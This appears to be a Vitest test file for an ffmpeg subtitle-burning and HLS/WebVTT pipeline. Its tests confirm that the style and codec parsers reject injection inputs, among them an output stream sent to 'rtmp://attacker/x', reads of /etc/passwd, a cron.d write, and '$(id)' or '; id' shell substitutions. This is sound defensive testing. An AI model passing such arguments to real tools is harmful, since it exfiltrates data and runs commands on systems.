import { describe, expect, it } from 'vitest';
import { pipelineUuid, segmentRow } from '../pipeline/segment-row.fixture.ts';
import { parseCodecParams } from './codec-params.ts';
import { parseForceStyle } from './force-style.ts';
import { listed, livePlaylist, masterPlaylist, webVtt } from './hls-routes.ts';
import { burnArgs, formatAss } from './overlay-maker.ts';

const cue = (text: string) => ({ startMs: 3_661_001, endMs: 3_662_500, text });

describe('forceStyle', () => {
  it('has the default of the specification, and accepts every field of a style', () => {
    expect(parseForceStyle(' ')).toBe('Alignment=2,MarginV=20');
    const style = 'Fontname=DejaVu Sans,Fontsize=18,PrimaryColour=&H00FFFFFF,Bold=1,Outline=1.5,alignment=6,';
    expect(parseForceStyle(style)).toBe(style.replace('alignment', 'Alignment').slice(0, -1));
  });

  it.each([
    "Alignment=2'",
    'Alignment=2:fontsdir=/etc',
    'Fontname=a,drawtext=x',
    'MarginV=20;movie=/etc/passwd',
    'MarginV=[x]',
    'MarginV=1e9',
    'Fontsize=\\n',
    'Fontname=/etc/passwd',
    'FontName',
    'Encoding=1',
    'x=y',
  ])('S16: refuses %j', (style) => expect(() => parseForceStyle(style)).toThrow('forceStyle'));
});

describe('videoCodecParams', () => {
  it('has the default of the specification, and accepts the options of its encoder', () => {
    expect(parseCodecParams('').join(' ')).toBe(
      '-c:v libx264 -profile:v main -preset:v medium -tune zerolatency -bf 0',
    );
    expect(parseCodecParams('-preset veryfast -crf 23 -b:v 2M -maxrate 2500k').join(' ')).toBe(
      '-c:v libx264 -preset:v veryfast -crf 23 -b:v 2M -maxrate 2500k',
    );
  });

  it.each([
    '-c:v libx264 -f flv rtmp://attacker/x',
    '-i /etc/passwd',
    '-vf movie=/etc/passwd',
    '-y /etc/cron.d/x',
    'out.ts',
    '-c:v copy',
    '-preset $(id)',
    '-crf 23; id',
    '-bf',
    '-bf 99',
    '-b:v 1',
    '-x264-params log-file=/tmp/x',
    '-filter_complex x',
    '-attach x',
  ])('S16: refuses %j', (params) => expect(() => parseCodecParams(params)).toThrow('videoCodecParams'));
});

it('S16: a path with any character stays one value of the filter', () => {
  const path = "/data/it's: [a], b;c\\d/x.ass";
  const args = burnArgs({ from: '/a.ts', subtitles: path, to: '/b.ts', style: 'Alignment=2,MarginV=20', codec: [] });
  const filter = args[args.indexOf('-vf') + 1] ?? '';
  // Undone as ffmpeg does: once for the graph, once for the options of the filter.
  const undo = (text: string) => text.replace(/\\(.)/g, '$1');
  expect(undo(undo(filter.slice('subtitles=filename='.length).split(':force_style=')[0] ?? ''))).toBe(path);
  expect(filter).not.toMatch(/(?<!\\)[;[\]']/);
});

describe('a subtitle file', () => {
  it('holds the spoken text, and no command', () => {
    const text = formatAss([cue('a {\\b1}bold\\Nmove\nsecond')]);
    expect(text).toContain(
      'Dialogue: 0,1:01:01.00,1:01:02.50,Default,,0,0,0,,a \\{\\\u2060b1\\}bold\\\u2060Nmove\\Nsecond\n',
    );
  });
});

describe('WebVTT', () => {
  it('uses the clock of the packets, and escapes markup', () => {
    expect(webVtt(segmentRow({ startMs: 3_660_000, cues: [cue('a < b & c --> d\n\nnext')] }))).toBe(
      'WEBVTT\nX-TIMESTAMP-MAP=MPEGTS:0,LOCAL:00:00:00.000\n\n01:01:01.001 --> 01:01:02.500\na &lt; b &amp; c --&gt; d\nnext\n\n',
    );
  });

  it('is valid without a cue, and leaves out what was cleared', () => {
    const empty = 'WEBVTT\nX-TIMESTAMP-MAP=MPEGTS:0,LOCAL:00:00:00.000\n\n';
    expect(webVtt(segmentRow())).toBe(empty);
    expect(webVtt(segmentRow({ startMs: 3_660_000, cues: [cue('x')], isCleared: true }))).toBe(empty);
  });

  it('F03: follows the clock of the packets when that restarts', () => {
    const wrapMs = 2 ** 33 / 90;
    const vtt = webVtt(
      segmentRow({ startMs: wrapMs + 500, cues: [{ startMs: wrapMs + 1000, endMs: wrapMs + 2000, text: 'x' }] }),
    );
    expect(vtt).toContain('00:00:01.000 --> 00:00:02.000');
  });
});

describe('a subtitle playlist', () => {
  const only = (language: string) => ({ language, translations: [] });
  const rows = [7, 8, 10].map((sequence, at) =>
    segmentRow({ sequence, number: 7 + at, durationMs: [2000, 2400, 100][at] ?? 0, isDiscontinuity: sequence === 10 }),
  );
  const [first] = rows;

  it('lists a live window without end, with a discontinuity after a gap', () => {
    const lines = livePlaylist({ rows, seamsGone: 2 }, 'overlay', listed.overlay).trim().split('\n');
    expect(lines.slice(0, 7)).toEqual([
      '#EXTM3U',
      '#EXT-X-VERSION:3',
      '#EXT-X-MEDIA-SEQUENCE:7',
      '#EXT-X-TARGETDURATION:3',
      '#EXT-X-DISCONTINUITY-SEQUENCE:2',
      '#EXTINF:2.00, no desc',
      `/terraform/v1/ai/transcript/hls/overlay/7-overlay-${first?.id}.ts`,
    ]);
    expect(lines.indexOf('#EXT-X-DISCONTINUITY')).toBe(lines.length - 3);
    expect(lines.join()).not.toContain('ENDLIST');
  });

  it('offers a rendition for each translation, none of which is on by default', () => {
    const languages = { language: 'en', translations: ['de', 'zh-Hans'] };
    const media = masterPlaylist(pipelineUuid, languages, rows).split('\n').slice(1, 4);
    expect(media.map((line) => /NAME="(.*?)",LANGUAGE="(.*?)",DEFAULT=(\w+).*URI="(.*)"/.exec(line)?.slice(1))).toEqual(
      [
        ['Subtitle-EN', 'en', 'YES', 'subtitles.m3u8'],
        ['Deutsch', 'de', 'NO', 'subtitles-de.m3u8'],
        ['简体中文', 'zh-Hans', 'NO', 'subtitles-zh-Hans.m3u8'],
      ],
    );
    const list = livePlaylist({ rows, seamsGone: 0 }, 'webvtt', listed.translation('de'));
    expect(list).toContain(`/webvtt/7-overlay-${first?.id}.de.vtt\n`);
  });

  it('writes any language and bandwidth into the master playlist', () => {
    const text = masterPlaylist(pipelineUuid, only('en"\n#EXT-X-KEY'), [segmentRow({ bytes: 1000, durationMs: 100 })]);
    expect(text).toContain('NAME="Subtitle-ENEXT-X-KEY",LANGUAGE="enEXT-X-KEY"');
    expect(text).toContain('#EXT-X-STREAM-INF:BANDWIDTH=80000,SUBTITLES="subs"');
    expect(masterPlaylist(pipelineUuid, only(''), [segmentRow({ durationMs: 0 })])).toContain('LANGUAGE="und"');
  });
});
